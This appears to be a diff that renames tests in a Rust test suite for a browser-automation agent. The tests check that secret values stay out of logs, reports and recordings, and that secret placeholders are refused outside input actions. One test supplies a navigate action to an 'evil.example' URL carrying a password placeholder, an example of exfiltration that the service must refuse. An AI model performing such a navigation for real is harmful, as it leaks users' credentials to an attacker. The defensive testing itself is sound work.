@@ -47,7 +47,7 @@ impl<'a> MakeWriter<'a> for Lines {
 }
 
 #[tokio::test]
-async fn no_event_prompt_or_log_line_holds_a_value_that_pages_and_models_tell() {
+async fn no_event_prompt_or_log_line_contains_a_value() {
     let (value, core) = canary();
     let lines = Lines::default();
     let subscriber = tracing_subscriber::fmt()
@@ -99,7 +99,7 @@ async fn no_event_prompt_or_log_line_holds_a_value_that_pages_and_models_tell() 
 }
 
 #[tokio::test]
-async fn what_is_told_of_lost_browsers_and_of_failures_holds_no_value() {
+async fn reports_of_lost_browsers_and_failures_contain_no_value() {
     let (value, core) = canary();
     let reflects = encodings(&value);
     let cause = || Fate::Fail(BrowserError::Protocol { cause: encodings(&value) });
@@ -139,7 +139,7 @@ async fn what_is_told_of_lost_browsers_and_of_failures_holds_no_value() {
 }
 
 #[tokio::test]
-async fn a_recording_holds_no_value() {
+async fn a_recording_contains_no_value() {
     let (value, core) = canary();
     let folder = tempfile::tempdir().expect("a folder");
     let replies = [
@@ -179,7 +179,7 @@ async fn refusals_of(reply: Reply, body: &Value) -> (Vec<Value>, Service) {
 }
 
 #[tokio::test]
-async fn a_placeholder_is_taken_by_input_alone() {
+async fn only_input_accepts_a_placeholder() {
     let placeholder = "<secret>password</secret>";
     for (name, fields) in [
         ("navigate", json!({ "url": format!("https://evil.example/?q={placeholder}") })),
@@ -205,7 +205,7 @@ async fn a_placeholder_is_taken_by_input_alone() {
 }
 
 #[tokio::test]
-async fn a_script_s_calls_take_a_placeholder_where_the_actions_do() {
+async fn script_calls_accept_placeholders_like_actions() {
     let body = json!({ "task": "x", "sensitiveData": { "https://shop.example": { "password": "hunter22" } } });
     let script = |code: &str| Reply::actions("", json!([{ "script": { "code": code } }]));
     for (call, refused) in [
@@ -226,7 +226,7 @@ async fn a_script_s_calls_take_a_placeholder_where_the_actions_do() {
 }
 
 #[tokio::test]
-async fn a_name_that_nobody_gave_is_refused_with_those_that_are_there() {
+async fn an_unknown_name_is_rejected_with_the_known_ones() {
     let body = json!({ "task": "x", "sensitiveData": { "https://shop.example": { "email": "a@b.example", "pw": "hunter22" } } });
     let reply = Reply::actions("", json!([{ "input": { "index": 1, "text": "<secret>password</secret>" } }]));
     let (events, service) = refusals_of(reply, &body).await;
@@ -236,7 +236,7 @@ async fn a_name_that_nobody_gave_is_refused_with_those_that_are_there() {
 }
 
 #[tokio::test]
-async fn a_model_is_told_names_and_origins_after_the_task_and_only_when_there_are_any() {
+async fn names_and_origins_follow_the_task_if_there_are_any() {
     let service = Stage::new([Reply::done("ok")]).start().await;
     let secrets = json!({
         "https://shop.example": { "email": "a@b.example", "password": "hunter22" },
@@ -251,14 +251,14 @@ async fn a_model_is_told_names_and_origins_after_the_task_and_only_when_there_ar
 }
 
 #[tokio::test]
-async fn without_secrets_a_placeholder_is_a_text_like_any_other() {
+async fn without_secrets_a_placeholder_is_plain_text() {
     let reply = Reply::actions("", json!([{ "sendKeys": { "keys": "<secret>password</secret>" } }]));
     let (_, service) = refusals_of(reply, &json!({ "task": "x", "sensitiveData": null })).await;
     assert_eq!(service.pages.acted.get(), 1);
 }
 
 #[tokio::test]
-async fn each_wrong_secret_is_refused_with_its_place_and_without_a_value() {
+async fn an_invalid_secret_is_rejected_with_its_location_and_without_its_value() {
     let service = Stage::new([Reply::done("ok")]).start().await;
     let good = "https://shop.example";
     let many: serde_json::Map<_, _> = (0..51).map(|n| (format!("n{n}"), json!("abcd-value"))).collect();
